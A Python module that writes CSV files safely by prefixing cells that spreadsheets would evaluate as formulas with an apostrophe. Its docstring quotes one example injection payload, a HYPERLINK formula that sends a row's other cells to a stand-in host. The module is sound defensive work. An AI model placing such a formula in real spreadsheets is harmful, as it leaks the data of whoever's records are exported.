"""The one way the project writes CSV: cells that a spreadsheet would run are made text.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - or @ (and, in
Excel, a tab or carriage return in front of one) as a formula, so a display name like
`=HYPERLINK("http://evil.example/?"&B2,"x")` would send the row's other cells to a stranger
when an organiser opens the export. Such a cell is written with a leading apostrophe, which
spreadsheets read as "this is text". The check looks past leading whitespace and reads
compatibility forms as what they stand for (the full-width ＝＋－＠ an IME types, the small
﹦﹢﹣﹫), because some programs do the same.

Numbers stay numbers: a non-text value (int, float, Decimal) and a text that is just a
number ("-3", "+1.5") are written as they are. A cell that already starts with an
apostrophe gets a second one, so that a reader which drops one leading apostrophe (the
topic sheet import, Excel) reads back the value as written.
"""

import csv
import re
import unicodedata
from decimal import Decimal

_FORMULA_STARTS = frozenset("=+-@")
# Characters Excel skips before it decides whether a cell is a formula.
_LEADING_CONTROL = ("\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _is_formula_start(char: str) -> bool:
    return char in _FORMULA_STARTS or unicodedata.normalize("NFKC", char) in _FORMULA_STARTS


def spreadsheet_cell(value) -> str | int | float | Decimal:
    """A value as a CSV cell that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if _NUMBER.fullmatch(text):
        return text
    stripped = text.lstrip()
    if text.startswith(("'", *_LEADING_CONTROL)) or (stripped and _is_formula_start(stripped[0])):
        return f"'{text}"
    return text


class SpreadsheetWriter:
    """csv.writer whose every cell goes through spreadsheet_cell."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(out, **kwargs) -> SpreadsheetWriter:
    return SpreadsheetWriter(out, **kwargs)
